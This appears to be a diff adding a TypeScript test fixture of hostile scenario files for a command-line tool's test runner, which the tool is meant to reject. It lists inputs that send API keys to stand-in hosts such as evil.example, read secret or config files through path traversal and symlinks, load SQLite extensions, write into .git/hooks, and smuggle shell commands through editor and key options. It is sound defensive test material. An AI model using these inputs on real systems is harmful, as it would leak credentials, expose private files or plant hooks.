@@ -1,0 +1,113 @@
+/*
+ * Files that somebody sends in who wants more than a test: a key, the network, another folder, the live mode, the
+ * configuration of whoever runs them. `OUT` stands for a folder outside, `URL` for a server that must hear nothing.
+ */
+
+/** One file: what it is after, and its text behind `version: 1`. */
+export type Hostile = readonly [about: string, text: string];
+
+const line = (...words: readonly string[]) => `steps:\n  - run: ${JSON.stringify(words)}\n`;
+/** A line whose words are known only when it runs: what is bound becomes the word. */
+const bound = (value: string, ...words: readonly string[]) =>
+  `cases: [{ evil: ${JSON.stringify(value)} }]\n${line(...words)}`;
+
+export const HOSTILE: readonly Hostile[] = [
+  // Other commands.
+  ['a login', line('login', 'mine', '--test-key', 'env:COPS_API_KEY', '--base-url', 'URL')],
+  ['a configuration', line('config', 'set', 'base_url', 'URL')],
+  ['a profile', line('profiles', 'list')],
+  ['an update', line('update')],
+  ['a browser', line('open', 'sales')],
+  ['a server', line('sandbox', 'serve', '--port', '0')],
+  ['a reset', line('sandbox', 'reset')],
+  ['scenarios in scenarios', line('test', '.')],
+  ['an alias', line('alias', 'set', 'sales', 'config list')],
+  ['everything thrown away', line('reset', '--yes')],
+  ['tools for agents', line('mcp')],
+  ['a file of another program', line('mcp', 'install', '--file', 'OUT/mcp.json')],
+  ['a command behind an option that takes a value', line('-o', 'sales', 'login', 'x', '--test-key', 'env:HOME')],
+  ['a command behind a column', line('--columns', 'customers', 'profiles', 'list')],
+  ['a command behind a zone', line('--tz', 'customers', 'doctor')],
+  ['a subcommand behind an option', line('sandbox', '--columns', 'status', 'serve')],
+  ['a command that is bound', bound('login', '${case.evil}', 'x')],
+  ['a subcommand that is bound', bound('serve', 'sandbox', '${case.evil}')],
+  ['an end that never comes', line('api-calls', 'tail')],
+  // Addresses, profiles and keys.
+  ['a base URL', line('sales', 'list', '--base-url', 'URL')],
+  ['a base URL in one word', line('sales', 'list', '--base-url=URL')],
+  ['a base URL that is bound', bound('--base-url=URL', 'sales', 'list', '${case.evil}')],
+  ['the profile', line('sales', 'list', '--profile', 'shop')],
+  ['the profile, shortly', line('sales', 'list', '-p', 'shop', '--live')],
+  ['the profile among letters', line('sales', 'list', '-qp', 'shop')],
+  ['the profile that is bound', bound('-pshop', 'sales', 'list', '${case.evil}')],
+  ['the profile of a comparison', line('setup', 'diff', '--from', 'shop:live', '--to', 'sandbox:test')],
+  [
+    'the profile of a promotion',
+    line('setup', 'promote', 'products', '--from', 'sandbox:test', '--to', 'shop:live', '--yes'),
+  ],
+  ['a key to another host', line('sales', 'list', '--send-key-to', 'evil.example')],
+  ['an address in the place of a path', line('api', 'GET', 'URL/sales')],
+  ['an address without a scheme', line('api', 'GET', '//evil.example/sales')],
+  // Variables.
+  [
+    'the base URL as a secret',
+    'given: { setup: shop, secrets: { COPS_BASE_URL: URL, COPS_PROFILE: shop } }\nsteps: [{ advance: 1d }]\n',
+  ],
+  ['a home as a secret', 'given: { setup: shop, secrets: { HOME: OUT } }\nsteps: [{ advance: 1d }]\n'],
+  ['a data folder as a secret', 'given: { setup: shop, secrets: { COPS_DATA_DIR: OUT } }\nsteps: [{ advance: 1d }]\n'],
+  ['a proxy', 'given: { setup: shop, secrets: { COPS_PROXY: URL } }\nsteps: [{ advance: 1d }]\n'],
+  // Reading elsewhere.
+  ['a value of a file outside', line('projects', 'create', '--name', '@OUT/secret.txt')],
+  ['a body of a file outside', line('projects', 'create', '--body', '@OUT/secret.json')],
+  ['a body of a file upwards', line('projects', 'create', '--body', '@../outside/secret.json')],
+  ['a body of a file upwards in a datum', line('projects', 'create', '-d', 'name=@../outside/secret.txt')],
+  ['a body behind a link', line('projects', 'create', '-d', 'name=@link.txt')],
+  ['a body below a link', line('projects', 'create', '-d', 'name=@linked/secret.txt')],
+  ['a body that is bound', bound('name=@../outside/secret.txt', 'projects', 'create', '-d', '${case.evil}')],
+  ['a body of a home', line('projects', 'create', '-d', 'name=@~/.config/cops/config.json')],
+  ['rows outside', line('bulk', 'projects', 'create', '--input', 'OUT/rows.csv')],
+  ['rows behind a link', line('bulk', 'projects', 'create', '--input', 'linked/rows.csv')],
+  ['ids outside', line('bulk', 'projects', 'edit', '--ids', '../outside/rows.csv')],
+  ['a query outside', line('sql', '--file', '../outside/secret.txt')],
+  ['a mirror outside', line('sql', '--mirror', 'OUT/mirror.sqlite', 'select 1')],
+  ['a mirror behind a link', line('sql', '--mirror', 'linked/mirror.sqlite', 'select 1')],
+  ['a database attached', line('sql', "attach 'OUT/mirror.sqlite' as x")],
+  ['a file read by a query', line('sql', "select readfile('OUT/secret.txt')")],
+  ['an extension', line('sql', "select load_extension('OUT/evil.so')")],
+  ['a database written by a query', line('sql', "vacuum into 'OUT/stolen.sqlite'")],
+  ['answers outside', line('sandbox', 'answers', 'linked/answers.json')],
+  ['a journal', line('bulk', 'resume', 'evil.journal')],
+  ['a journal of a set-up', line('setup', 'resume', 'evil.journal')],
+  ['a kept plan whose folder is outside', line('setup', 'apply', 'evil-plan.json', '--yes')],
+  ['a set-up outside', 'given: { setup: ../outside/shop }\nsteps: [{ advance: 1d }]\n'],
+  ['a set-up at an absolute path', 'given: { setup: OUT/shop }\nsteps: [{ advance: 1d }]\n'],
+  ['a set-up behind a link', 'given: { setup: linked/shop }\nsteps: [{ advance: 1d }]\n'],
+  ['a set-up that holds a link', 'given: { setup: leaking }\nsteps: [{ advance: 1d }]\n'],
+  // Writing elsewhere.
+  ['an export outside', line('export', 'campaigns', '--out', 'OUT/stolen.jsonl')],
+  ['an export upwards', line('export', 'campaigns', '--out', '../stolen.jsonl')],
+  ['an export below a link', line('export', 'campaigns', '--out', 'linked/stolen.jsonl')],
+  ['an export into a link that leads nowhere yet', line('export', 'campaigns', '--out', 'dangling.jsonl')],
+  ['an export that is bound', bound('--out=OUT/stolen.jsonl', 'export', 'campaigns', '${case.evil}')],
+  ['a hook of a repository', line('export', 'campaigns', '--out', '.git/hooks/pre-commit')],
+  ['a mirror written outside', line('sync', '../stolen.sqlite', 'campaigns')],
+  ['a mirror written below a link', line('sync', 'linked/stolen.sqlite', 'campaigns')],
+  ['a page outside', line('overview', '--html', 'linked/stolen.html')],
+  ['a page of a report outside', line('report', 'revenue', '--html=OUT/stolen.html')],
+  [
+    'a journal outside',
+    line('bulk', 'projects', 'create', '--input', 'rows.csv', '--journal', 'linked/stolen.journal'),
+  ],
+  ['a plan outside', line('setup', 'plan', 'shop', '--out', 'linked/stolen.json')],
+  ['a set-up written outside', line('setup', 'pull', 'linked/stolen')],
+  ['a set-up begun outside', line('setup', 'init', '../stolen')],
+  ['a path with a zero in it', line('export', 'campaigns', '--out', 'a\u0000/../../stolen.jsonl')],
+  ['a path of another system', line('export', 'campaigns', '--out', 'C:\\stolen.jsonl')],
+  // Programs.
+  ['an editor', line('projects', 'edit', 'A1b2C3d4E5f6G7h8I9j0', '--editor', 'touch OUT/stolen')],
+  ['a key of a command', line('api', 'GET', '/sales', '--test-key', 'cmd:touch OUT/stolen')],
+  [
+    'what the service was reached by',
+    'steps:\n  - run: sandbox status\n    as: s\n  - run: [export, campaigns, --out, "${s.file}"]\n',
+  ],
+];
